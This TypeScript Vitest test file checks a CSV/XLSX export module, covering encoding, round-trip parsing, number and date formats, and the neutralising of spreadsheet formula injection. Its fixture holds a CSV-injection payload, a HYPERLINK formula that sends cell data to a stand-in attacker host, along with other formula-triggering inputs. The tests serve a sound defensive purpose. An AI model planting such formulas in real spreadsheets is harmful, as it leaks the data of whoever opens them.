import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import type { ExportTable } from './export-table.js';
import { writeCsv, writeXlsx } from './export-write.js';

const table: ExportTable = {
  name: 'Участники',
  columns: [{ header: '№', format: 'integer' }, { header: 'ФИО' }, { header: 'Организация' }, { header: 'Сумма', format: 'money' }, { header: 'Дата', format: 'date' }],
  rows: [
    [1, 'Ғуломов Ўктам', 'OOO "Suvsoz", Toshkent', 1500000.5, '2026-05-12'],
    [2, '=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+998 71 200-00-00', -12.5, null],
    [3, '@SUM(A1:A2)', '-2+3', 0, '2026-05-13'],
    [4, 'Line one\nline two', '\tTabbed', 7, '2026-05-14'],
  ],
  note: '1 = present',
  blocks: [
    { title: 'По полу', rows: [['Женский', 2], ['Мужской', 1], ['Всего', 3]] },
    { title: 'Итоги', header: ['', 'Счетов', 'Сумма'], rows: [['UZS', 2, 99.9]] },
  ],
};

describe('CSV export', () => {
  const csv = writeCsv(table);

  it('starts with a byte-order mark and ends lines with CRLF, so Excel reads UTF-8', () => {
    expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv.toString('utf8')).toContain('\r\n');
  });

  it('parses back to the same rows, with quotes, commas and line breaks kept', () => {
    const rows: string[][] = parse(csv, { bom: true, relax_column_count: true });
    expect(rows[0]).toEqual(['№', 'ФИО', 'Организация', 'Сумма', 'Дата']);
    expect(rows[1]).toEqual(['1', 'Ғуломов Ўктам', 'OOO "Suvsoz", Toshkent', '1500000.5', '2026-05-12']);
    expect(rows[4]![1]).toBe('Line one\nline two');
    expect(rows.slice(5)).toEqual([[''], ['1 = present'], [''], ['По полу'], ['Женский', '2'], ['Мужской', '1'], ['Всего', '3'], [''], ['Итоги'], ['', 'Счетов', 'Сумма'], ['UZS', '2', '99.9']]);
  });

  it('neutralises cells a spreadsheet would run as formulas, but not negative numbers', () => {
    const rows: string[][] = parse(csv, { bom: true, relax_column_count: true });
    expect(rows[2]![1]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`);
    expect(rows[2]![2]).toBe(`'+998 71 200-00-00`);
    expect(rows[2]![3]).toBe('-12.5');
    expect(rows[3]![1]).toBe(`'@SUM(A1:A2)`);
    expect(rows[3]![2]).toBe(`'-2+3`);
    expect(rows[4]![2]).toBe(`'\tTabbed`);
  });
});

describe('XLSX export', () => {
  it('keeps text as text (never a formula), numbers as numbers and dates as dates', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await writeXlsx(table)) as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.name).toBe('Участники');
    expect(sheet.getRow(1).font?.bold).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    const injected = sheet.getCell('B3');
    expect(injected.type).toBe(ExcelJS.ValueType.String);
    expect(injected.formula).toBeUndefined();
    expect(injected.value).toBe('=HYPERLINK("http://evil.example/?x="&A1,"Click")');
    expect(sheet.getCell('D2').value).toBe(1500000.5);
    expect(sheet.getCell('D2').numFmt).toBe('#,##0.00');
    expect(sheet.getCell('E2').value).toEqual(new Date('2026-05-12T00:00:00Z'));
    expect(sheet.getCell('E3').value).toBeNull();
    expect(sheet.getCell('B5').value).toBe('Line one\nline two');
    // Row 6 is blank, then the note, a blank row and the blocks.
    expect(sheet.getCell('A7').value).toBe('1 = present');
    expect(sheet.getCell('A9').value).toBe('По полу');
    expect([sheet.getCell('A10').value, sheet.getCell('B10').value]).toEqual(['Женский', 2]);
    expect(sheet.getCell('C16').numFmt).toBe('#,##0.00');
    expect([sheet.getCell('A16').value, sheet.getCell('B16').value, sheet.getCell('C16').value]).toEqual(['UZS', 2, 99.9]);
  });
});
